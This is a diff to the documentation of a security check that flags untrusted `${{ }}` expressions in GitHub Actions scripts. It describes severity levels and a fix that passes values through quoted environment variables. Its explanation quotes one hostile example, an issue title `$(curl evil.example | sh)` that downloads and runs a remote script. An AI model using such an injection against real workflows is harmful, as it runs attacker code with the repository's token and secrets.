@@ -14,7 +14,7 @@ export const workflowTemplateInjection = workflowCheck({
   documentation: {
     what: "Checks `run` scripts and inputs of actions that are run as code (`script` of actions/github-script and others) for `${{ }}` expressions whose value somebody else writes: titles, bodies, branch names, commit messages, inputs that are text, and what `env`, `matrix`, outputs of steps and jobs carry on of them. Not reported: values that GitHub makes (numbers, commit ids, states), inputs of type boolean, number, choice or environment, values of a matrix that stand in the file, and what is only compared. Severity: critical where anyone can set the value in a run with the repository's token or secrets, high where anyone can in a run without, medium where people with write access or callers can, low where what runs sets it.",
     why: "The runner replaces the expression before the shell starts: an issue titled `$(curl evil.example | sh)` is run as a command, with the job's token and secrets.",
-    fix: 'Hand the value over as a variable and quote it: `env: TITLE: ${{ github.event.issue.title }}` and `"$TITLE"` in the script; in github-script `process.env.TITLE`. `bulkhead build audit --fix` does that for bash and pwsh.',
+    fix: 'Hand the value over as a variable and quote it: `env: TITLE: ${{ github.event.issue.title }}` and `"$TITLE"` in the script; in github-script read it from the environment. `bulkhead build audit --fix` does that for bash and pwsh.',
     references: [
       "https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable",
       "https://securitylab.github.com/resources/github-actions-untrusted-input/",
